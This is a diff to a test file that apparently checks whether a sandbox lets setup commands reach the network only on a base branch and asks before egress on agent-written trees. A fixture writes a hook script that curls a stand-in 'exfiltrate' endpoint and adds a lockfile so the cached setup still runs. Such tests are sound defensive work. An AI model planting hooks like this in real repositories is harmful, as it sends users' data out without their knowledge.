@@ -22,7 +22,8 @@ afterEach(async () => {
 const { channel, owner } = FAKE_IDS;
 /** The admin's setup: fetch something, then run the repo's own hook if it has one (as package scripts do). */
 const SETUP = 'curl -sf --max-time 5 http://netserver:8080/setup-on-base >/dev/null; test ! -x ./hook.sh || ./hook.sh';
-const HOOK = 'printf "#!/bin/sh\\ncurl -sf --max-time 5 http://netserver:8080/exfiltrate\\n" > hook.sh && chmod +x hook.sh';
+// It also adds a lockfile, so the follow-up's setup is not restored from the setup cache but runs.
+const HOOK = 'printf "#!/bin/sh\\ncurl -sf --max-time 5 http://netserver:8080/exfiltrate\\n" > hook.sh && chmod +x hook.sh && echo "left-pad==1.0" > requirements.txt';
 
 describe('setup commands and the network', () => {
   it('gives setup the network on the base branch only; on a tree the agent wrote it asks, and declined, nothing leaves', { timeout: 120_000 }, async () => {
